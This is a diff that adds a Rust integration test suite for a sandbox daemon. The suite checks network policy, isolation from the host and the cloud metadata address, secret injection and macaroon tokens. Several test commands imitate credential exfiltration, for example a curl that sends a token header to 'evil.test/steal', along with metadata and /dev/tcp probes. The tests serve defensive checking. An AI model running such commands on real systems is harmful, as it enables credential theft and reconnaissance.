@@ -1,0 +1,693 @@
+//! Networking end to end: real network namespaces, veths, the bridge and nftables; burrowd's
+//! DNS and credential proxy; a fake internet in a namespace this test makes (a DNS server,
+//! HTTP and HTTPS echo servers with a test CA). Nothing here reaches a real network: the
+//! daemon may only forward to 198.18.0.0/15 (`--uplink-only`) and resolves through the fake
+//! DNS only.
+
+use std::io::{BufRead, BufReader};
+use std::net::Ipv4Addr;
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use burrow_api::{CreateSandbox, ExecRequest, SandboxName};
+use burrow_testkit::burrow_client::{Client, ClientError, Method};
+use burrow_testkit::{Daemon, raw_tcp, unique_name};
+use serde_json::{Value, json};
+
+const SECRET_VALUE: &str = "ghp_REALsecretVALUE0123456789";
+
+/// A namespace with a veth to the host: 198.18.N.1 on the host side, the servers on
+/// 198.18.N.2 (DNS) and one address per name from 198.18.N.10.
+struct FakeInternet {
+    ns: String,
+    host_if: String,
+    net: u8,
+    names: Vec<String>,
+    child: Child,
+    log: PathBuf,
+    ca_pem: PathBuf,
+    _dir: tempfile::TempDir,
+}
+
+fn ip(args: &[&str]) {
+    let out = Command::new("ip").args(args).output().expect("ip");
+    assert!(
+        out.status.success(),
+        "ip {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+impl FakeInternet {
+    fn start(names: &[&str]) -> FakeInternet {
+        let net = (std::process::id() % 200) as u8 + 20;
+        let ns = format!("bwt-inet-{net}");
+        let host_if = format!("bwti{net}");
+        // A namespace left by an earlier run of this binary with the same pid would clash.
+        let _ = Command::new("ip").args(["netns", "del", &ns]).output();
+        let _ = Command::new("ip").args(["link", "del", &host_if]).output();
+        ip(&["netns", "add", &ns]);
+        ip(&[
+            "link", "add", &host_if, "type", "veth", "peer", "name", "eth0", "netns", &ns,
+        ]);
+        ip(&["addr", "add", &format!("198.18.{net}.1/24"), "dev", &host_if]);
+        ip(&["link", "set", &host_if, "up"]);
+        ip(&[
+            "-n",
+            &ns,
+            "addr",
+            "add",
+            &format!("198.18.{net}.2/24"),
+            "dev",
+            "eth0",
+        ]);
+        for i in 0..names.len() {
+            ip(&[
+                "-n",
+                &ns,
+                "addr",
+                "add",
+                &format!("198.18.{net}.{}/24", 10 + i),
+                "dev",
+                "eth0",
+            ]);
+        }
+        ip(&["-n", &ns, "link", "set", "eth0", "up"]);
+        ip(&["-n", &ns, "link", "set", "lo", "up"]);
+        ip(&[
+            "-n",
+            &ns,
+            "route",
+            "add",
+            "default",
+            "via",
+            &format!("198.18.{net}.1"),
+        ]);
+
+        let dir = tempfile::tempdir().unwrap();
+        // A test CA and one certificate for every name.
+        let ca_key = rcgen::KeyPair::generate().unwrap();
+        let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
+        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+        ca_params
+            .distinguished_name
+            .push(rcgen::DnType::CommonName, "fake internet test CA");
+        let ca_cert = ca_params.self_signed(&ca_key).unwrap();
+        let issuer = rcgen::Issuer::new(ca_params, ca_key);
+        let leaf_key = rcgen::KeyPair::generate().unwrap();
+        let leaf = rcgen::CertificateParams::new(names.iter().map(|s| s.to_string()).collect::<Vec<_>>())
+            .unwrap()
+            .signed_by(&leaf_key, &issuer)
+            .unwrap();
+        let ca_pem = dir.path().join("ca.pem");
+        std::fs::write(&ca_pem, ca_cert.pem()).unwrap();
+        std::fs::write(dir.path().join("cert.pem"), leaf.pem()).unwrap();
+        std::fs::write(dir.path().join("key.pem"), leaf_key.serialize_pem()).unwrap();
+        let log = dir.path().join("requests.log");
+        std::fs::write(&log, "").unwrap();
+
+        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/fake_internet.py");
+        let mut cmd = Command::new("ip");
+        cmd.args(["netns", "exec", &ns, "python3", script, "--cert"])
+            .arg(dir.path().join("cert.pem"))
+            .arg("--key")
+            .arg(dir.path().join("key.pem"))
+            .arg("--log")
+            .arg(&log);
+        for (i, n) in names.iter().enumerate() {
+            cmd.arg(format!("{n}=198.18.{net}.{}", 10 + i));
+        }
+        cmd.stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit());
+        let mut child = cmd.spawn().expect("fake internet");
+        let mut line = String::new();
+        BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        assert_eq!(line.trim(), "READY", "fake internet did not start");
+        FakeInternet {
+            ns,
+            host_if,
+            net,
+            names: names.iter().map(|s| s.to_string()).collect(),
+            child,
+            log,
+            ca_pem,
+            _dir: dir,
+        }
+    }
+
+    fn addr(&self, name: &str) -> Ipv4Addr {
+        let i = self.names.iter().position(|n| n == name).expect("known name");
+        Ipv4Addr::new(198, 18, self.net, 10 + i as u8)
+    }
+
+    fn dns(&self) -> String {
+        format!("198.18.{}.2:53", self.net)
+    }
+
+    /// Every request the echo servers received.
+    fn requests(&self) -> Vec<Value> {
+        std::fs::read_to_string(&self.log)
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
+    }
+}
+
+impl Drop for FakeInternet {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+        let _ = Command::new("ip").args(["link", "del", &self.host_if]).output();
+        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
+    }
+}
+
+/// Tests that count what the fake internet received run one at a time.
+async fn serial() -> tokio::sync::MutexGuard<'static, ()> {
+    static LOCK: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
+    LOCK.lock().await
+}
+
+const NAMES: &[&str] = &["api.github.test", "evil.test", "pypi.test", "other.test"];
+
+/// One fake internet and one daemon resolving through it, for every test of this binary.
+fn world() -> &'static (FakeInternet, Daemon) {
+    static WORLD: OnceLock<&'static (FakeInternet, Daemon)> = OnceLock::new();
+    WORLD.get_or_init(|| {
+        let (tx, rx) = std::sync::mpsc::channel();
+        // Spawned from a thread that lives as long as the process (the daemon gets SIGTERM
+        // when it ends, like `shared()`).
+        std::thread::spawn(move || {
+            let inet = FakeInternet::start(NAMES);
+            let ca = inet.ca_pem.display().to_string();
+            let dns = inet.dns();
+            let d = Daemon::start_with(&["--dns-upstream", &dns, "--egress-ca", &ca]);
+            let w: &'static (FakeInternet, Daemon) = Box::leak(Box::new((inet, d)));
+            tx.send(w).unwrap();
+            loop {
+                std::thread::park();
+            }
+        });
+        rx.recv().expect("test world")
+    })
+}
+
+async fn create(c: &Client, name: &str) {
+    c.create_sandbox(&CreateSandbox {
+        name: SandboxName::parse(name).unwrap(),
+        ..Default::default()
+    })
+    .await
+    .unwrap();
+}
+
+async fn sh(c: &Client, name: &str, script: &str) -> (i32, String, String) {
+    let r = c
+        .exec(
+            name,
+            &ExecRequest {
+                cmd: vec!["sh".into(), "-c".into(), script.into()],
+                ..Default::default()
+            },
+        )
+        .await
+        .unwrap_or_else(|e| panic!("exec in {name}: {e}"));
+    (r.exit_code, r.stdout, r.stderr)
+}
+
+/// A shell line that connects to host:port (bounded) and prints the first line it reads, or
+/// CONNECTED when the server says nothing.
+fn tcp_hello(host: &str, port: u16) -> String {
+    format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{host}/{port} && echo CONNECTED && timeout 2 head -1 <&3'")
+}
+
+async fn set_policy(c: &Client, name: &str, policy: Value) -> Result<Value, ClientError> {
+    c.request_json(
+        Method::PUT,
+        &format!("/v1/sandboxes/{name}/policy/network"),
+        Some(&policy),
+    )
+    .await
+}
+
+/// curl in the sandbox; `direct` bypasses the explicit proxy (the transparent path). It
+/// trusts `/tmp/trust.pem` (see [`trust_test_ca`]).
+fn curl(url: &str, direct: bool, extra: &str) -> String {
+    let unset = if direct {
+        "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy "
+    } else {
+        ""
+    };
+    format!("{unset}curl -sS --cacert /tmp/trust.pem --connect-timeout 3 --max-time 10 {extra} {url}")
+}
+
+/// `/tmp/trust.pem` in the sandbox: its own bundle (which has the interception CA) plus the
+/// fake internet's CA, which hosts relayed end to end present.
+async fn trust_test_ca(c: &Client, name: &str, inet: &FakeInternet) {
+    let pem = std::fs::read_to_string(&inet.ca_pem).unwrap();
+    let (code, out, err) = sh(
+        c,
+        name,
+        &format!("cat /.burrow/host/ca-bundle.crt > /tmp/trust.pem && printf '%s' '{pem}' >> /tmp/trust.pem"),
+    )
+    .await;
+    assert_eq!(code, 0, "{out}{err}");
+}
+
+#[tokio::test]
+async fn policy_mode_allows_listed_domains_only() {
+    let _serial = serial().await;
+    let (inet, d) = world();
+    let c = d.client();
+    let name = unique_name("pol");
+    create(&c, &name).await;
+    trust_test_ca(&c, &name, inet).await;
+    set_policy(
+        &c,
+        &name,
+        json!({"mode": "policy", "rules": [
+            {"domain": "*.github.test", "action": "allow"},
+            {"domain": "pypi.test", "action": "allow"},
+            {"domain": "*", "action": "deny"}]}),
+    )
+    .await
+    .unwrap();
+    // Allowed names resolve to what the fake DNS says; denied ones are refused.
+    let (code, out, _) = sh(&c, &name, "getent hosts api.github.test").await;
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains(&inet.addr("api.github.test").to_string()), "{out}");
+    let (code, _, _) = sh(&c, &name, "getent hosts evil.test").await;
+    assert_ne!(code, 0, "a denied name must not resolve");
+
+    for direct in [false, true] {
+        // HTTPS to an allowed host works, through the explicit proxy and transparently.
+        let (code, out, err) = sh(&c, &name, &curl("https://pypi.test/simple/", direct, "")).await;
+        assert_eq!(code, 0, "direct={direct}: {out}{err}");
+        let seen: Value = serde_json::from_str(&out).unwrap();
+        assert_eq!(seen["host"], "pypi.test");
+        assert_eq!(seen["path"], "/simple/");
+        // A denied host is not reached.
+        let before = inet.requests().len();
+        let (code, _, _) = sh(&c, &name, &curl("https://evil.test/", direct, "")).await;
+        assert_ne!(code, 0, "direct={direct}: a denied domain must fail");
+        let after = inet.requests();
+        assert_eq!(
+            after.len(),
+            before,
+            "direct={direct}: the denied host received a request: {:?}",
+            &after[before..]
+        );
+    }
+    // A raw IP is dropped, even one an allowed name resolves to from elsewhere.
+    let before = inet.requests().len();
+    let other = inet.addr("other.test");
+    let (code, out, _) = sh(&c, &name, &curl(&format!("http://{other}/"), true, "-f")).await;
+    assert_ne!(code, 0, "{out}");
+    let (_, out, _) = sh(&c, &name, &tcp_hello(&other.to_string(), 7000)).await;
+    assert!(!out.contains("HELLO"), "a raw IP was reachable: {out}");
+    assert_eq!(inet.requests().len(), before);
+    // ...while the same port on an allowed name's address is reachable (the check above
+    // can fail).
+    let allowed = inet.addr("pypi.test");
+    let (_, out, _) = sh(
+        &c,
+        &name,
+        &format!(
+            "getent hosts pypi.test >/dev/null; {}",
+            tcp_hello(&allowed.to_string(), 7000)
+        ),
+    )
+    .await;
+    assert!(
+        out.contains("HELLO"),
+        "an admitted address was not reachable: {out}"
+    );
+    c.delete_sandbox(&name).await.unwrap();
+}
+
+#[tokio::test]
+async fn policy_changes_apply_to_a_running_sandbox_at_once() {
+    let _serial = serial().await;
+    let (inet, d) = world();
+    let c = d.client();
+    let name = unique_name("polchg");
+    create(&c, &name).await;
+    trust_test_ca(&c, &name, inet).await;
+    let url = "https://other.test/x";
+    set_policy(&c, &name, json!({"mode": "none"})).await.unwrap();
+    let (code, _, _) = sh(&c, &name, &curl(url, true, "")).await;
+    assert_ne!(code, 0, "mode none must block");
+    set_policy(&c, &name, json!({"mode": "open"})).await.unwrap();
+    let (code, out, err) = sh(&c, &name, &curl(url, true, "")).await;
+    assert_eq!(code, 0, "open must allow: {out}{err}");
+    set_policy(
+        &c,
+        &name,
+        json!({"mode": "policy", "rules": [{"domain": "pypi.test", "action": "allow"}]}),
+    )
+    .await
+    .unwrap();
+    let (code, _, _) = sh(&c, &name, &curl(url, true, "")).await;
+    assert_ne!(code, 0, "policy without other.test must block");
+    let got: Value = c
+        .get_json(&format!("/v1/sandboxes/{name}/policy/network"))
+        .await
+        .unwrap();
+    assert_eq!(got["mode"], "policy");
+    assert_eq!(got["rules"][0]["domain"], "pypi.test");
+    let _ = inet;
+    c.delete_sandbox(&name).await.unwrap();
+}
+
+#[tokio::test]
+async fn sandboxes_cannot_reach_the_host_each_other_or_metadata() {
+    let _serial = serial().await;
+    let (_inet, d) = world();
+    let c = d.client();
+    let (a, b) = (unique_name("iso-a"), unique_name("iso-b"));
+    create(&c, &a).await;
+    create(&c, &b).await;
+    // A service on the host, on every address; the host itself reaches it (control).
+    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let (_, b_ip, _) = sh(&c, &b, "hostname -I").await;
+    let b_ip = b_ip
+        .split_whitespace()
+        .next()
+        .expect("sandbox b has an address")
+        .to_owned();
+    // b listens on 7777 and reaches itself (control).
+    let (code, out, err) = sh(
+        &c,
+        &b,
+        "nohup python3 -c 'import socket\ns=socket.socket()\ns.bind((\"0.0.0.0\",7777))\ns.listen()\n\
+         while True:\n c,_=s.accept(); c.sendall(b\"HELLO\\n\"); c.close()' >/dev/null 2>&1 &\n\
+         for i in $(seq 100); do timeout 1 bash -c 'exec 3<>/dev/tcp/127.0.0.1/7777' 2>/dev/null && exit 0; sleep 0.1; done; exit 1",
+    )
+    .await;
+    assert_eq!(code, 0, "listener in b did not come up: {out}{err}");
+    let (_, gw, _) = sh(&c, &a, "ip route | awk '/default/ {print $3}'").await;
+    let gw = gw.trim().to_owned();
+    assert!(!gw.is_empty());
+    assert!(
+        std::net::TcpStream::connect((gw.as_str(), port)).is_ok(),
+        "control: the host reaches its own service"
+    );
+    for (what, host, port) in [
+        ("the host", gw.clone(), port),
+        (
+            "the daemon's API port on the gateway",
+            gw.clone(),
+            d.addr().port(),
+        ),
+        ("another sandbox", b_ip.clone(), 7777),
+        ("the metadata service", "169.254.169.254".to_owned(), 7000),
+        ("a private range", "10.0.0.1".to_owned(), 7000),
+    ] {
+        let (code, out, err) = sh(&c, &a, &tcp_hello(&host, port)).await;
+        assert!(
+            !out.contains("CONNECTED"),
+            "{what} was reachable: {out}{err} (exit {code})"
+        );
+    }
+    // HTTP to the metadata address goes to the transparent proxy, which refuses it.
+    let (code, out, _) = sh(
+        &c,
+        &a,
+        "curl -sf --max-time 5 http://169.254.169.254/latest/meta-data/",
+    )
+    .await;
+    assert_ne!(code, 0, "metadata answered: {out}");
+    // Root inside cannot change the sandbox's own network (the namespace is the host's).
+    let (code, _, _) = sh(&c, &a, "ip addr add 10.9.9.9/32 dev eth0").await;
+    assert_ne!(code, 0, "root in the sandbox changed its addresses");
+    drop(listener);
+    c.delete_sandbox(&a).await.unwrap();
+    c.delete_sandbox(&b).await.unwrap();
+}
+
+async fn add_secret(c: &Client, name: &str, hosts: &[&str]) {
+    let r: Value = c
+        .request_json(
+            Method::POST,
+            "/v1/secrets",
+            Some(&json!({"name": name, "value": SECRET_VALUE,
+                         "inject": {"header": "Authorization", "format": "token %s"},
+                         "hosts": hosts})),
+        )
+        .await
+        .unwrap();
+    assert!(
+        !r.to_string().contains(SECRET_VALUE),
+        "the API returned the value: {r}"
+    );
+}
+
+#[tokio::test]
+async fn secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox() {
+    let _serial = serial().await;
+    let (inet, d) = world();
+    let c = d.client();
+    let name = unique_name("sec");
+    let secret = unique_name("gh");
+    create(&c, &name).await;
+    trust_test_ca(&c, &name, inet).await;
+    add_secret(&c, &secret, &["api.github.test"]).await;
+    let _: Value = c
+        .request_json(
+            Method::PUT,
+            &format!("/v1/sandboxes/{name}/secrets/{secret}"),
+            Some(&json!({"env": "GITHUB_TOKEN"})),
+        )
+        .await
+        .unwrap();
+    // The sandbox holds a placeholder, and the value is nowhere inside.
+    let (_, token, _) = sh(&c, &name, "printf %s \"$GITHUB_TOKEN\"").await;
+    assert!(token.starts_with("bm1_"), "{token}");
+    let (code, out, _) = sh(
+        &c,
+        &name,
+        &format!(
+            "grep -rs -l '{SECRET_VALUE}' /etc /root /tmp /.burrow /proc/self/environ /proc/1/environ; \
+             env | grep -c '{SECRET_VALUE}'"
+        ),
+    )
+    .await;
+    assert_eq!(
+        out.trim(),
+        "0",
+        "the secret is visible in the sandbox (exit {code}): {out}"
+    );
+    let listed: Value = c.get_json("/v1/secrets").await.unwrap();
+    assert!(!listed.to_string().contains(SECRET_VALUE));
+
+    for direct in [false, true] {
+        let before = inet.requests().len();
+        let cmd = curl(
+            "https://api.github.test/user",
+            direct,
+            "-H \"Authorization: token $GITHUB_TOKEN\"",
+        );
+        let (code, out, err) = sh(&c, &name, &cmd).await;
+        assert_eq!(code, 0, "direct={direct}: {out}{err}");
+        // The server got the real value; the sandbox saw it redacted.
+        let reqs = inet.requests();
+        let last = &reqs[before..];
+        assert_eq!(last.len(), 1, "{last:?}");
+        assert_eq!(
+            last[0]["headers"]["authorization"],
+            format!("token {SECRET_VALUE}")
+        );
+        assert!(
+            !out.contains(SECRET_VALUE),
+            "the response leaked the secret: {out}"
+        );
+        assert!(out.contains(&"*".repeat(SECRET_VALUE.len())), "{out}");
+
+        // The same placeholder to a host the secret is not for: refused, nothing sent.
+        let before = inet.requests().len();
+        let cmd = curl(
+            "https://evil.test/steal",
+            direct,
+            "-H \"Authorization: token $GITHUB_TOKEN\" -w '%{http_code}'",
+        );
+        let (_, out, _) = sh(&c, &name, &cmd).await;
+        assert!(out.contains("403") || out.is_empty(), "direct={direct}: {out}");
+        assert_eq!(inet.requests().len(), before, "evil.test received the request");
+    }
+
+    // An attenuated placeholder: expired, or narrowed to GET and used with POST.
+    let mac = burrow_macaroon::Macaroon::decode(&token).unwrap();
+    let expired = mac.attenuate(&burrow_macaroon::Caveat::ExpiresAt(1)).encode();
+    let get_only = mac
+        .attenuate(&burrow_macaroon::Caveat::Methods(vec!["GET".into()]))
+        .encode();
+    for (tok, method, caveat) in [(&expired, "GET", "expires"), (&get_only, "POST", "methods")] {
+        let before = inet.requests().len();
+        let cmd = curl(
+            "https://api.github.test/user",
+            false,
+            &format!("-X {method} -H 'Authorization: token {tok}' -w ' %{{http_code}}'"),
+        );
+        let (_, out, _) = sh(&c, &name, &cmd).await;
+        assert!(out.contains("403") && out.contains(caveat), "{caveat}: {out}");
+        assert_eq!(inet.requests().len(), before);
+    }
+    // Every use is an event (without the value).
+    let events: Result<Value, _> = c
+        .get_json(&format!("/v1/sandboxes/{name}/events?since=0&follow=false"))
+        .await;
+    if let Ok(ev) = events {
+        assert!(!ev.to_string().contains(SECRET_VALUE));
+    }
+    c.delete_sandbox(&name).await.unwrap();
+    c.request_json::<Value, ()>(Method::DELETE, &format!("/v1/secrets/{secret}"), None)
+        .await
+        .ok();
+}
+
+#[tokio::test]
+async fn bad_policies_and_secrets_are_refused_with_the_reason() {
+    let (_inet, d) = world();
+    let c = d.client();
+    let name = unique_name("bad");
+    create(&c, &name).await;
+    let e = set_policy(
+        &c,
+        &name,
+        json!({"mode": "policy", "rules": [
+        {"domain": "ok.test", "action": "allow"},
+        {"domain": "exa mple.com", "action": "allow"}]}),
+    )
+    .await
+    .unwrap_err();
+    assert_eq!(e.status(), Some(422), "{e}");
+    assert!(e.to_string().contains("exa mple.com"), "{e}");
+    let e = set_policy(&c, &name, json!({"mode": "sometimes"}))
+        .await
+        .unwrap_err();
+    assert!(matches!(e.status(), Some(400) | Some(422)), "{e}");
+    let e = c
+        .request_json::<Value, _>(
+            Method::POST,
+            "/v1/secrets",
+            Some(&json!({"name": "nohost", "value": "x", "hosts": []})),
+        )
+        .await
+        .unwrap_err();
+    assert_eq!(e.status(), Some(422), "{e}");
+    assert!(e.to_string().contains("host"), "{e}");
+    let e = c
+        .request_json::<Value, _>(
+            Method::PUT,
+            &format!("/v1/sandboxes/{name}/secrets/does-not-exist"),
+            Some(&json!({"env": "X"})),
+        )
+        .await
+        .unwrap_err();
+    assert_eq!(e.status(), Some(404), "{e}");
+    c.delete_sandbox(&name).await.unwrap();
+}
+
+#[tokio::test]
+async fn api_tokens_are_macaroons_with_named_caveats() {
+    let (_inet, d) = world();
+    let c = d.client();
+    let (mine, other) = (unique_name("tok"), unique_name("tok-other"));
+    create(&c, &mine).await;
+    create(&c, &other).await;
+    let r: Value = c
+        .request_json(
+            Method::POST,
+            "/v1/tokens",
+            Some(&json!({"caveats": {"sandboxes": [mine], "actions": ["exec"]}})),
+        )
+        .await
+        .unwrap();
+    let token = r["token"].as_str().unwrap().to_owned();
+    let addr = d.addr();
+    let exec = |sb: String, tok: String| async move {
+        raw_tcp(
+            addr,
+            "POST",
+            &format!("/v1/sandboxes/{sb}/exec"),
+            &[
+                ("authorization", &format!("Bearer {tok}")),
+                ("content-type", "application/json"),
+            ],
+            br#"{"cmd":["true"]}"#.to_vec(),
+        )
+        .await
+    };
+    assert_eq!(exec(mine.clone(), token.clone()).await.status, 200);
+    let denied = exec(other.clone(), token.clone()).await;
+    assert_eq!(denied.status, 403);
+    assert!(
+        denied.json()["error"]["caveat"]
+            .as_str()
+            .unwrap()
+            .starts_with("sandboxes="),
+        "{:?}",
+        denied.json()
+    );
+    // An action it lacks.
+    let del = raw_tcp(
+        addr,
+        "DELETE",
+        &format!("/v1/sandboxes/{mine}"),
+        &[("authorization", &format!("Bearer {token}"))],
+        vec![],
+    )
+    .await;
+    assert_eq!(del.status, 403);
+    assert!(
+        del.error_message().contains("actions="),
+        "{}",
+        del.error_message()
+    );
+    // Attenuated offline to an expiry in the past.
+    let expired = burrow_macaroon::Macaroon::decode(&token)
+        .unwrap()
+        .attenuate(&burrow_macaroon::Caveat::ExpiresAt(1))
+        .encode();
+    let r = exec(mine.clone(), expired).await;
+    assert_eq!(r.status, 403);
+    assert!(r.error_message().contains("expires"), "{}", r.error_message());
+    // Widening by dropping a caveat breaks the signature.
+    let forged = burrow_macaroon::Macaroon::mint(b"not the daemon's key", "x", &[]).encode();
+    assert_eq!(exec(mine.clone(), forged).await.status, 401);
+    assert_eq!(exec(mine.clone(), "garbage".into()).await.status, 401);
+    // The admin token is the root: anything goes.
+    assert_eq!(exec(other.clone(), d.token()).await.status, 200);
+    c.delete_sandbox(&mine).await.unwrap();
+    c.delete_sandbox(&other).await.unwrap();
+}
+
+#[tokio::test]
+async fn rules_survive_a_daemon_crash() {
+    let inet = world();
+    let _ = inet;
+    // An own daemon: this one is killed.
+    let d = Daemon::start();
+    let c = d.client();
+    let name = unique_name("netcrash");
+    create(&c, &name).await;
+    set_policy(&c, &name, json!({"mode": "none"})).await.unwrap();
+    d.kill9();
+    d.restart();
+    let c = d.client();
+    // Still blocked after the table was rebuilt, and DNS refuses.
+    let (code, _, _) = sh(&c, &name, "getent hosts api.github.test").await;
+    assert_ne!(code, 0);
+    let table = Command::new("nft").args(["list", "tables"]).output().unwrap();
+    assert!(String::from_utf8_lossy(&table.stdout).contains("burrow_"));
+    c.delete_sandbox(&name).await.unwrap();
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let _ = deadline;
+}
